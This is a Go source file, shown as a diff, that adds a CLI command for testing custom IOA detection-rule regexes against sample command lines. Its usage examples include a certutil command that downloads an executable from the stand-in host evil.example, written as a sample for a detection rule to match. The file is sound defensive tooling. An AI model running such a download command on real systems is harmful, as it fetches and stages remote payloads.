@@ -0,0 +1,255 @@
+// Copyright (c) 2022 CrowdStrike, Inc.
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package test
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+
+	"github.com/crowdstrike/falcon-cli/pkg/customioa"
+	"github.com/crowdstrike/falcon-cli/pkg/factory"
+	"github.com/crowdstrike/falcon-cli/pkg/iostreams"
+	"github.com/crowdstrike/falcon-cli/pkg/manifest"
+	"github.com/crowdstrike/falcon-cli/pkg/output"
+	"github.com/crowdstrike/falcon-cli/pkg/utils"
+	"github.com/spf13/cobra"
+	"k8s.io/kubectl/pkg/util/templates"
+)
+
+// Expected outcomes of --expect
+const (
+	expectMatch   = "match"
+	expectNoMatch = "no-match"
+)
+
+type TestOptions struct {
+	IO *iostreams.IOStreams
+
+	Files        []string
+	CommandLines []string
+	SamplesFile  string
+	Fields       []string
+	Expect       string
+	Format       string
+}
+
+var (
+	shortDesc = `Test custom IOA rules against sample command lines`
+	longDesc  = templates.LongDesc(`
+		Test the regular expressions of custom IOA rule specifications
+		against sample values, without connecting to Falcon.
+
+		Each sample is a command line given with --command-line or read from
+		the --samples file, one per line. Values of other fields, such as
+		ImageFilename, are given with --field and apply to every sample.
+		Without command lines the fields make up a single sample.
+
+		Expressions are matched against the whole value and ignoring case,
+		like Falcon does. Fields missing from a sample are not tested. The
+		test uses Go regular expressions, so expressions using PCRE only
+		features such as lookarounds cannot be tested.
+
+		Use --expect to fail when a sample does not have the expected
+		outcome, for instance in a CI pipeline.`)
+	examples = templates.Examples(`
+		# Check which command lines a rule would trigger on
+		falcon custom-ioa rule test certutil.yaml --field 'ImageFilename=C:\Windows\System32\certutil.exe' \
+		  --command-line 'certutil -urlcache -split -f http://evil.example/a.exe a.exe' \
+		  --command-line 'certutil -hashfile setup.exe SHA256'
+
+		# Fail when any known good command line would trigger the rules
+		falcon custom-ioa rule test rules/*.yaml --samples known-good.txt --expect no-match
+	`)
+)
+
+// Result is the outcome of testing a rule against a sample
+type Result struct {
+	Rule   string            `json:"rule"`
+	Sample map[string]string `json:"sample"`
+	Match  bool              `json:"match"`
+	Reason string            `json:"reason"`
+}
+
+// NewCmdTest represents the custom-ioa rule test command
+func NewCmdTest(f *factory.Factory) *cobra.Command {
+	opts := &TestOptions{
+		IO: f.IOStreams,
+	}
+
+	cmd := &cobra.Command{
+		Use:     "test <file>...",
+		Short:   shortDesc,
+		Long:    longDesc,
+		Example: examples,
+		Args:    cobra.MinimumNArgs(1),
+		RunE: func(cmd *cobra.Command, args []string) error {
+			if err := output.ValidateFormat(opts.Format); err != nil {
+				return err
+			}
+			if opts.Expect != "" {
+				if err := utils.ValidateOneOf("--expect", []string{expectMatch, expectNoMatch}, opts.Expect); err != nil {
+					return err
+				}
+			}
+
+			opts.Files = args
+			return testRun(opts)
+		},
+	}
+
+	cmd.Flags().StringArrayVar(&opts.CommandLines, "command-line", nil, "Sample command line (repeatable)")
+	cmd.Flags().StringVar(&opts.SamplesFile, "samples", "", `File of sample command lines, one per line, or "-" for standard input`)
+	cmd.Flags().StringArrayVar(&opts.Fields, "field", nil, "Value of a field for every sample as <name>=<value> (repeatable)")
+	cmd.Flags().StringVar(&opts.Expect, "expect", "", "Fail unless every sample has this outcome: match, no-match")
+	output.AddFormatFlag(cmd, &opts.Format)
+
+	return cmd
+}
+
+func testRun(opts *TestOptions) error {
+	for _, file := range opts.Files {
+		if file == "-" && opts.SamplesFile == "-" {
+			return fmt.Errorf("specifications and samples cannot both be read from standard input")
+		}
+	}
+
+	specs, err := manifest.ReadFiles(opts.Files, opts.IO.In, customioa.ReadSpecs)
+	if err != nil {
+		return err
+	}
+
+	samples, err := readSamples(opts)
+	if err != nil {
+		return err
+	}
+
+	results := []*Result{}
+	unexpected := 0
+	for _, spec := range specs {
+		for _, sample := range samples {
+			res, err := spec.Match(sample)
+			if err != nil {
+				return err
+			}
+
+			results = append(results, &Result{Rule: spec.Name, Sample: sample, Match: res.Match, Reason: res.Reason})
+			if opts.Expect != "" && res.Match != (opts.Expect == expectMatch) {
+				unexpected++
+			}
+		}
+	}
+
+	err = output.Print(opts.IO.Out, opts.Format, results, func(t *output.Table) {
+		t.SetHeaders("RULE", "RESULT", "REASON", "SAMPLE")
+		for _, r := range results {
+			result := "no match"
+			if r.Match {
+				result = "match"
+			}
+			t.AddRow(r.Rule, result, r.Reason, formatSample(r.Sample))
+		}
+	})
+	if err != nil {
+		return err
+	}
+
+	if unexpected > 0 {
+		return fmt.Errorf("%d of %d results are not %s", unexpected, len(results), opts.Expect)
+	}
+	return nil
+}
+
+// readSamples returns the samples given on the command line, as values by
+// field name
+func readSamples(opts *TestOptions) ([]map[string]string, error) {
+	fields := map[string]string{}
+	for _, f := range opts.Fields {
+		name, value, ok := strings.Cut(f, "=")
+		if !ok || name == "" {
+			return nil, fmt.Errorf("invalid --field %q, must be <name>=<value>", f)
+		}
+		fields[name] = value
+	}
+
+	lines := opts.CommandLines
+	if opts.SamplesFile != "" {
+		read, err := readLines(opts)
+		if err != nil {
+			return nil, err
+		}
+		lines = append(lines, read...)
+	}
+
+	if len(lines) == 0 {
+		if len(fields) == 0 {
+			return nil, fmt.Errorf("no samples given, use --command-line, --samples or --field")
+		}
+		return []map[string]string{fields}, nil
+	}
+
+	samples := []map[string]string{}
+	for _, line := range lines {
+		sample := map[string]string{"CommandLine": line}
+		for k, v := range fields {
+			sample[k] = v
+		}
+		samples = append(samples, sample)
+	}
+	return samples, nil
+}
+
+func readLines(opts *TestOptions) ([]string, error) {
+	if opts.SamplesFile == "-" {
+		return utils.ReadLines(opts.IO.In)
+	}
+
+	f, err := os.Open(filepath.Clean(opts.SamplesFile))
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+
+	return utils.ReadLines(f)
+}
+
+// formatSample shows the command line of a sample, followed by its other
+// fields
+func formatSample(sample map[string]string) string {
+	names := []string{}
+	for k := range sample {
+		if k != "CommandLine" {
+			names = append(names, k)
+		}
+	}
+	sort.Strings(names)
+
+	parts := []string{}
+	if cl, ok := sample["CommandLine"]; ok {
+		parts = append(parts, cl)
+	}
+	for _, k := range names {
+		parts = append(parts, fmt.Sprintf("%s=%s", k, sample[k]))
+	}
+	return strings.Join(parts, " ")
+}